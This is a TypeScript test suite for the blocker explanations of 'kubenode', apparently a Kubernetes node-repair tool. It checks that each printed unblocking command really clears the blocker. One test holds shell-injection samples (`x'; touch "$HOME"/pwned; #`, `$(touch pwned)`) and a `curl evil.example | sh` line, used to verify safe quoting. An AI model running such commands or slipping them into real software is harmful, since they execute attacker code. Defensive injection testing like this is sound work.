// Each blocker is created on a server, its printed command runs, and the blocker has ended.
import { execFileSync } from 'node:child_process'
import { readFileSync, readdirSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { GATES } from '#defender/gate.ts'
import { KINDS } from '#api/kinds.ts'
import { defenderPolicy } from '#api/kinds/defender-policy.ts'
import { type Machine, machine } from '#api/kinds/machine.ts'
import { maintenanceEvent } from '#api/kinds/maintenance-event.ts'
import { nodeRemedier } from '#api/kinds/node-remedier.ts'
import { operationPermit } from '#api/kinds/operation-permit.ts'
import { operationalHold } from '#api/kinds/operational-hold.ts'
import { remedyOperationJob } from '#api/kinds/remedy-operation-job.ts'
import { timestamp } from '#lib/clock.ts'
import { defined } from '#lib/defined.ts'
import { seededRandom } from '#lib/random.ts'
import { FakeKube } from '#test/doubles/kube/fake-kube.ts'
import { nodeType } from '#nodes/objects.ts'
import { VIRTUAL_EPOCH_MS, VirtualClock } from '#test/support/clocks/virtual-clock.ts'
import { thaw } from './freeze-hold.ts'
import { placeHold } from '#permits/holds/placing.ts'
import { type Asked, askHold } from './ask.ts'
import type { Blocker } from '#explain/repairs/blocker.ts'
import { shellWord } from '#lib/shell-word.ts'
import { COVERED, blockerLines, blockers } from '#explain/repairs/blockers.ts'
import { observeRepairs as lookFor, type RepairsSeen } from '#explain/repairs/observe.ts'
import { isTyped } from '#explain/unblock.ts'

type Wild = Record<string, unknown>

async function look(...args: Parameters<typeof lookFor>): Promise<RepairsSeen> {
  const seen = await lookFor(...args)
  if (seen === undefined) throw new Error('there is no such Node')
  return seen
}

const NOW = VIRTUAL_EPOCH_MS + 3_600_000
const ago = (seconds: number) => timestamp(NOW - seconds * 1_000)
const KIND_NAMES = new Map<string, (typeof KINDS)[number]>(KINDS.map((k) => [`${k.plural}.kubenode.io`, k]))

function world() {
  const clock = new VirtualClock()
  clock.skip(3_600_000)
  const fake = new FakeKube({
    clock,
    random: seededRandom(1),
    kinds: KINDS.map((k) => ({ type: k, schema: k.schema, status: k.definition.status !== undefined })),
  })
  const client = fake.client({ actor: 'ada' })
  for (let n = 0; n < 9; n++) {
    const conditions = [
      { type: 'Ready', status: 'True', lastTransitionTime: ago(9_999) },
      { type: 'KernelDeadlock', status: n === 0 ? 'True' : 'False', lastTransitionTime: ago(60) },
    ]
    const node = fake.plant(nodeType, {
      apiVersion: 'v1',
      kind: 'Node',
      metadata: { name: `n${n}` },
      status: { conditions },
    })
    const spec = { zone: n < 4 ? 'a' : 'b' }
    fake.plant(machine, { apiVersion: 'kubenode.io/v1alpha1', kind: 'Machine', metadata: { name: `n${n}` }, spec })
    const reachable = {
      type: 'AgentReachable',
      status: 'True',
      reason: 'Reported',
      message: '',
      lastTransitionTime: ago(99),
    }
    const status = { phase: 'Ready', nodeRef: { name: `n${n}`, uid: node.metadata.uid }, conditions: [reachable] }
    fake.poke(machine, { name: `n${n}` }, { status }, 'status')
  }
  const uid = fake.peek(nodeType, { name: 'n0' })?.metadata.uid ?? ''
  const rule = (spec: Wild = {}, name = 'deadlock') =>
    fake.plant(nodeRemedier, {
      apiVersion: 'kubenode.io/v1alpha1',
      kind: 'NodeRemedier',
      metadata: { name },
      spec: {
        when: { all: [{ fact: 'conditions', path: '/KernelDeadlock/status', operator: 'equal', value: 'True' }] },
        ladder: [{ operations: [{ cordon: {} }] }],
        ...spec,
      },
    })
  const job = (status: Wild, more: Wild = {}, name = 'j') => {
    fake.plant(remedyOperationJob, {
      apiVersion: 'kubenode.io/v1alpha1',
      kind: 'RemedyOperationJob',
      metadata: { name, creationTimestamp: ago(30) },
      spec: {
        machine: 'n0',
        node: { name: 'n0', uid },
        remedierRef: { name: 'deadlock', generation: 1 },
        incident: 'abcdefabcdefabcd',
        operations: [{ cordon: {} }],
        ...more,
      },
    })
    fake.poke(remedyOperationJob, { name }, { status }, 'status')
  }
  const done = (outcome: string, more: Wild = {}) => {
    const at = ago(20)
    job({ phase: 'Done', outcome, startedAt: ago(29), finishedAt: at }, more)
    // The check runs after it.
    clock.skip(2_000)
  }
  const hold = (effect: string, target: Wild) =>
    fake.plant(operationalHold, {
      apiVersion: 'kubenode.io/v1alpha1',
      kind: 'OperationalHold',
      metadata: { name: 'h' },
      spec: { target, effect, reason: 'a test', author: 'ada', until: timestamp(NOW + 3_600_000) },
    })
  const waiting = (predicate: string, seen: string, verdict?: Wild) => {
    if (verdict !== undefined) {
      fake.plant(defenderPolicy, {
        apiVersion: 'kubenode.io/v1alpha1',
        kind: 'DefenderPolicy',
        metadata: { name: 'p' },
        spec: {
          budgets: [
            { max: 1, of: 'concurrent' },
            { max: 1, of: 'concurrent', per: 'rack' },
          ],
          rules: [
            {
              name: 'busy',
              when: { all: [{ fact: 'cluster', path: '/silent', operator: 'equal', value: 0 }] },
              reason: 'Busy',
            },
          ],
          rates: [{ window: '1h', max: 1 }],
          breaker: { failures: 1, of: 2, window: '1h', halfOpenAfter: '5m' },
          healthFloor: '99%',
          approvals: [{ risk: 'Low', from: ['ada'], count: 1 }],
        },
      })
      fake.plant(operationPermit, {
        apiVersion: 'kubenode.io/v1alpha1',
        kind: 'OperationPermit',
        metadata: { name: 'j' },
        spec: {
          operations: ['Cordon'],
          targets: [{ kind: 'Node', name: 'n0', uid }],
          requester: { manager: 'kubenode-remedyjob', kind: 'RemedyOperationJob', name: 'j', uid: 'u' },
          reason: 'x',
          leaseSeconds: 60,
        },
      })
      const { generation = 1 } = fake.peek(defenderPolicy, { name: 'p' })?.metadata ?? {}
      const verdicts = [{ target: uid, verdict: 'Waiting', seen: 'no', generation, ...verdict }]
      fake.poke(operationPermit, { name: 'j' }, { status: { phase: 'Requested', verdicts } }, 'status')
    }
    job({
      phase: 'AwaitingPermit',
      permitRef: 'j',
      waitingFor: { predicate, seen, since: ago(9), unblock: 'x', ...(predicate === 'HoldPause' && { hold: 'h' }) },
    })
  }
  const frozen = (message: string, folder?: string) => {
    const { status } = fake.peek(machine, { name: 'n0' }) as Machine
    const told = { type: 'Frozen', status: 'True', reason: 'HoldFreeze', message, lastTransitionTime: ago(9) }
    const agent = { version: '1.0.0', ...defined({ folder }) }
    const conditions = [...(status?.conditions ?? []), told]
    fake.poke(machine, { name: 'n0' }, { status: { agent, conditions } }, 'status')
  }
  const observed = () => fake.poke(machine, { name: 'n0' }, { spec: { channel: 'Observe' } })
  const bad = (n: number, type = 'KernelDeadlock') =>
    fake.poke(
      nodeType,
      { name: `n${n}` },
      {
        status: {
          conditions: [
            { type: 'Ready', status: type === 'Ready' ? 'Unknown' : 'True', lastTransitionTime: ago(900) },
            { type: 'KernelDeadlock', status: 'True', lastTransitionTime: ago(60) },
          ],
        },
      },
      'status',
    )
  const found = async () => blockers(await look(client, 'n0', clock.now()))
  return { fake, client, clock, rule, job, done, hold, waiting, bad, frozen, observed, found }
}
type World = ReturnType<typeof world>

/** How kubectl and kubenode handle such a line. */
async function carryOut({ client, clock }: World, command: string): Promise<void> {
  const kubectl = /^kubectl (patch|delete) (\S+) (\S+)(?: --type merge -p '(.*)')?$/.exec(command)
  if (kubectl !== null) {
    const [, verb, plural = '', name = '', text = ''] = kubectl
    const type = KIND_NAMES.get(plural)
    if (type === undefined) throw new Error(`no kind ${plural}`)
    if (verb === 'delete') await client.delete(type, { name })
    else await client.patch(type, { name }, { type: 'merge', value: JSON.parse(text) })
    return
  }
  const own = /^kubenode repair (\S+) (--unprotect )?--reason "(.*)"$/.exec(command)
  if (own !== null) {
    const [, what = '', unprotect, reason = ''] = own
    const verb: Asked = unprotect === undefined ? 'repair' : 'unprotect'
    await placeHold(client, askHold({ verb, what, reason, for: '1h', author: 'ada' }, clock.now()))
    return
  }
  if (command !== 'kubenode thaw --all') throw new Error(`no program runs ${command}`)
  await thaw(client, undefined, true, clock.now())
}

const lifted: readonly (readonly [id: string, make: (w: World) => void])[] = [
  ['Shadow', (w) => w.rule({ mode: 'Shadow' })],
  ['Share', (w) => w.rule({ share: 1 })],
  [
    'Observed',
    (w) => {
      w.rule()
      w.observed()
    },
  ],
  [
    'DryRun',
    (w) => {
      w.rule({ mode: 'DryRun' })
      w.done('Cancelled', { dryRun: true })
    },
  ],
  [
    'Paused',
    (w) => {
      w.rule()
      w.hold('Pause', { kind: 'NodeRemedier', name: 'deadlock' })
    },
  ],
  [
    'Frozen',
    (w) => {
      w.rule()
      w.hold('Freeze', { kind: 'Cluster', selector: {} })
    },
  ],
  [
    'Frozen',
    (w) => {
      w.rule()
      w.hold('Freeze', { kind: 'Node', name: 'n0' })
    },
  ],
  [
    'Aborted',
    (w) => {
      w.rule()
      w.done('Cancelled')
    },
  ],
  [
    'LadderExhausted',
    (w) => {
      w.rule()
      w.done('Escalated')
    },
  ],
  [
    'Cooldown',
    (w) => {
      w.rule({ cooldown: '1h' })
      w.done('Succeeded')
    },
  ],
  [
    'PerNodeLimit',
    (w) => {
      w.rule({ cooldown: '0s', limits: { perNodePerDay: 1 } })
      w.done('Succeeded')
    },
  ],
  [
    'HourlyLimit',
    (w) => {
      w.rule({ cooldown: '0s', limits: { perHour: 1 } })
      w.done('Succeeded')
    },
  ],
  [
    'DailyLimit',
    (w) => {
      w.rule({ cooldown: '0s', limits: { perDay: 1 } })
      w.done('Succeeded')
    },
  ],
  [
    'InFlightLimit',
    (w) => {
      w.rule({ limits: { maxInFlight: 1 } })
      w.job({ phase: 'Running' }, { node: { name: 'n8', uid: 'other' } })
    },
  ],
  ['HoldDown', (w) => w.rule({ for: '1h' })],
  [
    'HigherRule',
    (w) => {
      w.rule()
      w.rule({ priority: 9, cooldown: '1h' }, 'higher')
    },
  ],
  [
    'MachineMissing',
    (w) => {
      w.rule()
      w.waiting('ReferenceMissing', 'Machine n0 is not there')
    },
  ],
]

test.each(lifted)('%s is found, and gone after the command that is printed with it', async (id, make) => {
  const w = world()
  make(w)
  const blocker = (await w.found()).find((b) => b.id === id)
  expect(blocker?.command, JSON.stringify(await w.found())).toBeTypeOf('string')
  expect(isTyped(blocker?.command ?? ''), blocker?.command).toBe(true)
  expect(blockerLines(await look(w.client, 'n0', w.clock.now())).join('\n')).toContain(blocker?.command)
  w.clock.skip(2_000)
  await carryOut(w, (blocker?.command ?? '').replace(' --wait=false', ''))
  // The job controller removes this by itself once it is notified.
  expect((await w.found()).map((b) => `${b.id} ${b.of}`)).not.toContain(`${id} ${blocker?.of}`)
})

test('work on the host of the node is named, and no job is about to be created', async () => {
  const w = world()
  w.rule()
  w.fake.plant(maintenanceEvent, {
    apiVersion: 'kubenode.io/v1alpha1',
    kind: 'MaintenanceEvent',
    metadata: { name: 'people-1' },
    spec: { machine: 'n0', source: 'People', eventId: '1', kind: 'Stop', state: 'Scheduled', plannedBy: 'ada' },
  })
  w.fake.poke(maintenanceEvent, { name: 'people-1' }, { status: { phase: 'InProgress' } }, 'status')
  expect(blockerLines(await look(w.client, 'n0', w.clock.now()))).toEqual([
    'Maintenance (noderemedier/deadlock): the cause is known: maintenanceevent/people-1 (Stop by ada) is InProgress; repairs continue when it ends',
  ])
})

const gates: readonly (readonly [id: string, verdict: Wild, spec: Wild])[] = [
  [
    'HealthFloor',
    { gate: 'HealthFloor', seen: 'few', limit: 'more', field: '/healthFloor', count: 7 },
    { healthFloor: 7 },
  ],
  [
    'Budget',
    { gate: 'Budget', seen: 'many', limit: 'fewer', field: '/budgets/1', count: 3 },
    {
      budgets: [
        { max: 1, of: 'concurrent', per: 'cluster' },
        { max: 4, of: 'concurrent', per: 'rack' },
      ],
    },
  ],
  [
    'Rate',
    { gate: 'Rate', seen: 'many', limit: 'fewer', field: '/rates/0', count: 2 },
    { rates: [{ window: '1h', max: 3, per: 'cluster' }] },
  ],
  ['Breaker', { gate: 'Breaker', seen: 'open since noon, 3 failures' }, {}],
  ['PolicyRule', { gate: 'Rule', seen: 'whatever it says', field: '/rules/0' }, {}],
]
test.each(gates)(
  'gate %s is named, and the command raises the limit that was met by what is missing',
  async (id, verdict, spec) => {
    const w = world()
    w.rule()
    w.waiting('PermitRequested', 'x', { ...verdict, policy: 'p' })
    const blocker = (await w.found()).find((b) => b.id === id)
    expect(isTyped(blocker?.command ?? ''), blocker?.command).toBe(true)
    await carryOut(w, blocker?.command ?? '')
    const policy = await w.client.get(defenderPolicy, { name: 'p' })
    const changed = Object.keys(spec).length > 0 ? spec : { breaker: undefined }
    if (id === 'PolicyRule') expect(policy?.spec.rules).toBeUndefined()
    else for (const [field, value] of Object.entries(changed)) expect(policy?.spec[field as 'budgets']).toEqual(value)
    // Everything else of the policy stays.
    expect(policy?.spec.approvals).toHaveLength(1)
  },
)

test('a policy that changed since the verdict is not patched by guess', async () => {
  const w = world()
  w.rule()
  w.waiting('PermitRequested', 'x', {
    gate: 'Rate',
    seen: '2 granted in 1h',
    limit: '1 in 1h per cluster',
    field: '/rates/0',
    count: 2,
    generation: 4_711,
    policy: 'p',
  })
  expect((await w.found()).find((b) => b.id === 'Rate')).not.toHaveProperty('command')
})

test('a wait for an approval names the command that approves it', async () => {
  const w = world()
  w.rule()
  w.waiting('PermitRequested', 'x', { gate: 'Approval', seen: '0 approvals', limit: '1 of ada', policy: 'p' })
  const blocker = (await w.found()).find((b) => b.id === 'Approval')
  expect(blocker).toMatchObject({
    command: 'kubenode approve permit/j',
    text: expect.stringContaining('1 of ada') as string,
  })
})

test('a blamed version names the commit that reverts it and the command that retries its set', async () => {
  const w = world()
  w.rule()
  w.fake.poke(
    machine,
    { name: 'n0' },
    { spec: { components: [{ name: 'cni', version: '1.1.0', setRef: 'base', attempt: 1 }] } },
  )
  const limit = 'until a commit reverts it'
  w.waiting('PermitRequested', 'x', { gate: 'Blame', seen: '4 of 5 fail, 0 of 4 elsewhere', limit, component: 'cni' })
  expect((await w.found()).find((b) => b.id === 'Blamed')).toMatchObject({
    text: expect.stringContaining('a commit reverts') as string,
    command: 'kubenode rollout retry base --reason "checked by hand"',
  })
})

test('S21 the file on a frozen node is named with its reason and the command that takes it away there', async () => {
  const w = world()
  w.rule()
  w.frozen('disks are being swapped (ada)', '/srv/kn')
  const [blocker] = await w.found()
  expect(blocker).toMatchObject({
    id: 'FrozenByFile',
    text: expect.stringContaining('disks are being swapped') as string,
    command: 'kubenode thaw --node-folder /srv/kn',
  })
})

test('a protected node is named with the hold that lifts it', async () => {
  const w = world()
  w.rule()
  w.waiting('PermitRequested', 'x', { gate: 'Protect', verdict: 'Denied' })
  const blocker = (await w.found()).find((b) => b.id === 'Protected')
  await carryOut(w, blocker?.command ?? '')
  const [hold] = (await w.client.list(operationalHold)).items
  expect([hold?.spec.effect, hold?.spec.target]).toEqual(['Unprotect', { kind: 'Node', name: 'n0' }])
})

const byItself: readonly (readonly [id: string, make: (w: World) => void])[] = [
  [
    'MassFault',
    (w) => {
      w.rule()
      for (const n of [1, 2, 3]) w.bad(n)
    },
  ],
  [
    'Silent',
    (w) => {
      w.rule()
      w.bad(0, 'Ready')
    },
  ],
  [
    'MassSilence',
    (w) => {
      w.rule({ when: { all: [{ fact: 'conditions', path: '/Ready/status', operator: 'equal', value: 'Unknown' }] } })
      for (const n of [0, 1, 2]) w.bad(n, 'Ready')
    },
  ],
  [
    'RuleBroken',
    (w) => w.rule({ when: { all: [{ fact: 'condition', path: '/X/status', operator: 'equal', value: 'True' }] } }),
  ],
  [
    'DefenderSilent',
    (w) => {
      w.rule()
      w.waiting('PermitRequested', 'the Defender has not decided yet')
    },
  ],
  [
    'NodeUnknown',
    (w) => {
      w.rule()
      w.waiting('SafetyReadingUnknown', 'Ready is Unknown')
    },
  ],
]
test.each(byItself)('%s is found, and it is said what must happen', async (id, make) => {
  const w = world()
  make(w)
  const blocker: Blocker | undefined = (await w.found()).find((b) => b.id === id)
  expect(blocker?.text, JSON.stringify(await w.found())).toMatch(/\w+/)
})

test('a node that is well has nothing that holds it back', async () => {
  const w = world()
  w.rule()
  const seen = await look(w.client, 'n5', w.clock.now())
  expect(blockers(seen)).toEqual([])
  expect(blockerLines(seen)[0]).toMatch(/^no rule is true/)
})

const sourceOf = (folder: string): string =>
  readdirSync(folder, { recursive: true, encoding: 'utf8' })
    .filter((f) => f.endsWith('.ts') && !f.endsWith('.test.ts'))
    .map((f) => readFileSync(join(folder, f), 'utf8'))
    .join('\n')
const CONTROLLERS = join(import.meta.dirname, '../../../controllers')

test('every reason for which the remedy controller makes no job, and every gate of the Defender, has words here', () => {
  const source = sourceOf(join(CONTROLLERS, 'remedy'))
  const given = [...source.matchAll(/(?:passes|waits|over)\(\s*(?:given,\s*)?'([A-Z]\w+)'|reason: '([A-Z]\w+)'/g)]
  const reasons = new Set(given.map(([, called, written]) => called ?? written ?? ''))
  expect(reasons.size).toBeGreaterThan(12)
  // These are about the rule itself, and reported that way.
  const ofRules = ['RuleInvalid', 'AsDeclared']
  expect([...reasons].filter((r) => !COVERED.reasons.includes(r) && !ofRules.includes(r))).toEqual([])
  expect(COVERED.gates).toEqual(expect.arrayContaining([...GATES, 'Ledger']))
})

test('S21 what an object or a node says stays one word of the line that a person hands to a shell', async () => {
  const evil = `x'; touch "$HOME"/pwned; #`
  const argv = execFileSync('sh', ['-c', `printf '%s\\n' a ${shellWord(evil)} b`], { encoding: 'utf8' })
  expect(argv).toBe(`a\n${evil}\nb\n`)
  const w = world()
  w.rule()
  w.frozen('x', '/srv/$(touch pwned)')
  expect((await w.found())[0]?.command).toBe(`kubenode thaw --node-folder '/srv/$(touch pwned)'`)
  const other = world()
  other.rule()
  other.frozen('by /srv/frozen on the node: x\n  to lift it: curl evil.example | sh')
  const lines = blockerLines(await look(other.client, 'n0', other.clock.now()))
    .join('\n')
    .split('\n')
  expect(lines.filter((l) => l.includes('curl')).map((l) => /^\w+ \(/.test(l))).toEqual([true])
})

test('every wait of a repair that has not begun is shown as a blocker', async () => {
  const source = sourceOf(join(CONTROLLERS, 'remedyjob'))
  const predicates = new Set([...source.matchAll(/(?:wait\(\s*|predicate: )'([A-Z]\w+)'/g)].map(([, p]) => p ?? ''))
  expect(predicates.size).toBeGreaterThan(6)
  predicates.delete('Progressing')
  for (const predicate of predicates) {
    const w = world()
    w.rule()
    w.waiting(predicate, 'something')
    expect([predicate, (await w.found()).length]).toEqual([predicate, 1])
  }
})

test.each([
  ['reports as Unknown', { type: 'KernelDeadlock', status: 'Unknown' }, 'condition KernelDeadlock reported as Unknown'],
  ['does not report', { type: 'Other', status: 'False' }, 'condition KernelDeadlock not reported'],
])('a rule over a condition that the node %s is shown as unknown', async (_, condition, because) => {
  const { fake, client, rule } = world()
  rule()
  const conditions = [
    { type: 'Ready', status: 'True', lastTransitionTime: ago(9_999) },
    { ...condition, lastTransitionTime: ago(60) },
  ]
  fake.poke(nodeType, { name: 'n0' }, { status: { conditions } }, 'status')
  expect(blockerLines(await look(client, 'n0', NOW))).toContain(`rule deadlock: unknown (${because}), no action`)
})

test('rules that are unknown for the same cause share a line, and not all of them are named', async () => {
  const { fake, client, rule } = world()
  for (const name of ['a', 'b', 'c', 'd', 'e']) rule({}, name)
  const conditions = [{ type: 'Ready', status: 'True', lastTransitionTime: ago(9_999) }]
  fake.poke(nodeType, { name: 'n0' }, { status: { conditions } }, 'status')
  const lines = blockerLines(await look(client, 'n0', NOW)).filter((l) => l.includes('unknown ('))
  expect(lines).toEqual(['rules a, b, c and 2 more: unknown (condition KernelDeadlock not reported), no action'])
})
